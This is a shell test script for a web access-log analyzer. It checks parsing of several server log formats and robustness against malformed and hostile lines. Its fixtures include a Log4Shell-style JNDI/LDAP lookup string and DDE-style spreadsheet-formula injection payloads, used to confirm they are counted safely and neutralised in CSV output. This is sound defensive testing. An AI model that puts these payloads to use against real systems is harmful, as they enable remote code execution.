#!/bin/bash
# 82-analyze-lines.t - one sample by hand of each format that servers write, and lines that strangers wrote: every line
# is counted as what it says, or as invalid; none is lost.
. "$(dirname "$0")/lib.sh"
need jq zstd gzip perl
log=$tmp/access.log
count() { status_is 0 "$1" us analyze "$log" --json --top 0; }
rows() { json "[.$1[] | [.path // .name, .hits]]"; }

# ---------------------------------------------------------------- formats
cat >"$log" <<'END'
192.0.2.1 - - [06/Jul/2009:09:00:00 +0900] "GET /login.html HTTP/1.1" 200 5120
192.0.2.2 - joe [05/Jul/2009:23:59:59 -0030] "POST /login.html HTTP/1.0" 302 -
END
count 'common'
json_is 'its name' '.formats[0]' common
json_is 'lines' '[.hits, .bytes, .hosts]' '[2,5120,2]'
json_is 'times of two zones' '[.first, .last]' '["2009-07-06T00:00:00Z","2009-07-06T00:29:59Z"]'

cat >"$log" <<'END'
www.example.org:443 192.0.2.1 - - [06/Jul/2026:09:00:00 +0000] "GET / HTTP/2.0" 200 10 "https://other.example/x?y" "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"
[2001:db8::80]:80 2001:db8::1 - - [06/Jul/2026:09:00:01 +0000] "GET /a.css HTTP/2.0" 200 20 "https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"
shop.example.org:80 2001:DB8:0:0::1 - - [06/Jul/2026:09:00:02 +0000] "GET /s HTTP/1.1" 200 30 "https://www.example.org/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"
END
count 'vhost_combined'
json_is 'its name' '.formats[0]' vhost_combined
is 'virtual hosts' "$(rows virtual_hosts)" '[["[2001:db8::80]",1],["shop.example.org",1],["www.example.org",1]]'
json_is 'two ways to write one IPv6 address' .hosts 2
is 'the site itself is no referrer' "$(rows referrers)" '[["other.example",1]]'

cat >"$log" <<'END'
{"level":"info","ts":1783328400.25,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"192.0.2.9","remote_port":"41342","client_ip":"192.0.2.1","proto":"HTTP/2.0","method":"GET","host":"example.org","uri":"/caddy?x=1","headers":{"User-Agent":["Mozilla/5.0 (iPhone; \"quoted\") Safari"],"Referer":["https://other.example/\u00e9"]}},"bytes_read":0,"user_id":"","duration":0.0015,"size":2900,"status":200,"resp_headers":{"Etag":["\"x\""]}}
{"level":"error","ts":1783328401,"request":{"remote_ip":"192.0.2.1","proto":"HTTP/1.1","method":"GET","host":"example.org","uri":"/missing","headers":{}},"duration":0.002,"size":0,"status":404}
END
count 'Caddy'
json_is 'its name' '.formats[0]' caddy
is 'pages' "$(rows pages)" '[["/caddy",1],["/missing",1]]'
json_is 'client_ip is the client' '[.hosts, .bytes, .visitors]' '[1,2900,1]'
json_is 'the time' .first 2026-07-06T09:00:00Z
json_is 'durations' '.duration_us.p50 > 1400 and .duration_us.p99 < 2100' true

cat >"$log" <<'END'
{"ClientAddr":"192.0.2.1:5000","ClientHost":"192.0.2.1","ClientUsername":"-","DownstreamContentSize":42,"DownstreamStatus":200,"Duration":1500000,"RequestAddr":"example.org","RequestHost":"example.org","RequestMethod":"GET","RequestPath":"/traefik?a=b","RequestProtocol":"HTTP/1.1","StartUTC":"2026-07-06T09:00:00.5Z","request_User-Agent":"curl/8.0","request_Referer":"https://other.example/","level":"info","msg":"","time":"2026-07-06T11:00:00+02:00"}
END
count 'Traefik'
json_is 'its name' '.formats[0]' traefik
is 'pages' "$(rows pages)" '[["/traefik",1]]'
json_is 'figures' '[.bytes, .bot_hits, .hosts]' '[42,1,1]'

printf '%s\r\n' '#Software: Microsoft Internet Information Services 10.0' '#Version: 1.0' '#Date: 2026-07-06 09:00:00' \
        '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes time-taken' \
        '2026-07-06 09:00:00 10.0.0.1 GET /iis.aspx a=1 443 - 192.0.2.1 Mozilla/5.0+(Windows+NT+10.0)+Edg/120.0 https://other.example/x 200 0 0 777 15' \
        '2026-07-06 09:00:01 10.0.0.1 GET /style.css - 443 - 192.0.2.1 Mozilla/5.0+(Windows+NT+10.0)+Edg/120.0 - 304 0 0 0 1' >"$log"
count 'IIS'
json_is 'its name' '.formats[0]' w3c
is 'pages' "$(rows pages)" '[["/iis.aspx",1]]'
is 'browsers' "$(rows browsers)" '[["Edge",2]]'
json_is 'figures' '[.lines, .empty, .hits, .bytes, .visitors]' '[6,4,2,777,1]'

# ---------------------------------------------------------------- lines of strangers
when='[06/Jul/2026:09:00:00 +0000]'
{
        printf '192.0.2.1 - - %s "GET /plain HTTP/1.1" 200 1 "-" "plain"\n' "$when"
        printf '192.0.2.1 - - %s "GET /\\"escaped\\" HTTP/1.1" 200 1 "a\\"b" "say \\"hi\\""\n' "$when"
        printf '192.0.2.1 - - %s "GET /"bare" HTTP/1.1" 200 1 "-" "the "best" 200 1 browser"\n' "$when"
        printf '192.0.2.1 - - %s "GET /cut HTTP/1.1" 200 1 "-" "unterminated (\n' "$when"
        printf '192.0.2.1 - - %s "GET /nul\0byte HTTP/1.1" 200 1 "-" "nul\0agent"\n' "$when"
        printf '192.0.2.1 - - %s "GET /\xff\xfe\xc3\x28 HTTP/1.1" 200 1 "-" "\xe3\x81"\n' "$when"
        printf '192.0.2.1 - - %s "\x16\x03\x01\x00\xa5" 400 1 "-" "-"\n' "$when"
        printf '192.0.2.1 - - %s "GET /jndi HTTP/1.1" 200 1 "-" "${jndi:ldap://192.0.2.66/a}"\n' "$when"
        printf '192.0.2.1 - - %s "GET /fake HTTP/1.1\\" 200 1 \\"-\\" \\"x" 404 1 "-" "forged"\n' "$when"
        printf '192.0.2.1 - - %s "GET /%s HTTP/1.1" 200 1 "-" "long"\n' "$when" "$(printf '%065000d' 0)"
        printf '192.0.2.1 - - %s "GET /%s HTTP/1.1" 200 1 "-" "too long"\n' "$when" "$(printf '%066000d' 0)"
        printf 'fe80::1%%eth0 - a b [c %s "GET /user HTTP/1.1" 200 1 "-" "spaces in the user"\n' "$when"
        printf '192.0.2.1 - - [06/Juli/2026:09:00:00 +0000] "GET /month HTTP/1.1" 200 1 "-" "x"\n'
} >"$log"
count 'hostile lines'
json_is 'each is counted or invalid' '[.lines, .hits, .invalid]' '[13,11,2]'
json_is 'statuses are those of the server' '[.status["200"], .status["400"], .status["404"]]' '[9,1,1]'
for path in /plain '/\134"escaped\134"' '/"bare"' /cut '/nul\000byte' '/\377\376\303(' /jndi /user; do
        is "path $path" "$(jq -c --arg path "$path" '[.pages[] | select(.path == $path) | .hits]' "$tmp/stdout")" '[1]'
done
hostile=$(json 'del(.samples)')
gzip -k "$log"
zstd -q -k "$log"
for locale in C ja_JP.UTF-8 de_DE.UTF-8 tr_TR.UTF-8; do
        is "the same under $locale" "$(LC_ALL=$locale TZ=Asia/Tokyo "$UNDERSTUDY" analyze "$log" --json --top 0 | "$json_reader" -c 'del(.samples)')" "$hostile"
done
is 'the same packed by gzip' "$("$UNDERSTUDY" analyze "$log.gz" --json --top 0 | "$json_reader" -c 'del(.samples)')" "$hostile"
is 'the same packed by zstd' "$("$UNDERSTUDY" analyze "$log.zst" --json --top 0 | "$json_reader" -c 'del(.samples)')" "$hostile"
is 'the same from standard input' "$("$UNDERSTUDY" analyze - --json --top 0 <"$log.zst" | "$json_reader" -c 'del(.samples)')" "$hostile"

# ---------------------------------------------------------------- what a spreadsheet would take for a formula
signs=('=' '+' '-' '@' '＝' '＋' '－' '＠')
for sign in "${signs[@]}"; do
        printf '192.0.2.1 - - %s "GET %scmd|1"!A1 HTTP/1.1" 200 1 "http://a.example/" "%s1+1"\n' "$when" "$sign" "$sign"
done >"$tmp/formula.log"
# formulas: fields of CSV that begin with a sign, whatever quotes are before it.
formulas() { grep -cE '(^|,)"?(=|\+|-|@|＝|＋|－|＠)' "$tmp/stdout"; }
status_is 0 'as CSV' us analyze "$tmp/formula.log" --csv
is 'no name is a formula' "$(formulas)" 0
is 'each is there, and its quote doubled' "$(grep -cF 'cmd|1""!A1",1,1,,1,0,0' "$tmp/stdout")" 8
us analyze --follow "$tmp/formula.log" --store "$tmp/formula.db" --once
status_is 0 'CSV of a store' us analyze query --store "$tmp/formula.db" --by page --csv
is 'no name is a formula there' "$(formulas)" 0
is 'each is there' "$(grep -cF 'cmd|1""!A1",1,1,1' "$tmp/stdout")" 8
done_testing
